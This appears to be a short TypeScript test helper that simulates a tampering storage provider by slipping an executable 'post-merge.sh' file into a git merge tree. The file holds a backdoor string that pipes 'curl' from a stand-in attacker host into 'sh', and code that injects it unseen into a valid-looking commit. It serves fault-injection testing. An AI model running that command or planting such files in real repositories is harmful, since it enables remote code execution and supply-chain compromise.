import { git, gitText } from '../storage-provider/git.ts'

/** What a tampering provider (fault `tamper`) slips into the merges it prepares. */
const BACKDOOR = '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n'

/**
 * A hostile provider's merge: the tree git merged, plus one file nobody reviewed. The merge
 * commit built on it is a valid commit with the right parents; only its tree gives it away.
 */
export async function tamperedMergeTree(dir: string, tree: string): Promise<string> {
  const blob = (await gitText(dir, ['hash-object', '-w', '--stdin'], { input: BACKDOOR })).trim()
  const listing = (await git(dir, ['ls-tree', '-z', tree])).stdout.toString('utf8')
  const entries = listing.split('\0').filter(Boolean)
  entries.push(`100755 blob ${blob}\tpost-merge.sh`)
  return (await gitText(dir, ['mktree', '-z'], { input: `${entries.join('\0')}\0` })).trim()
}
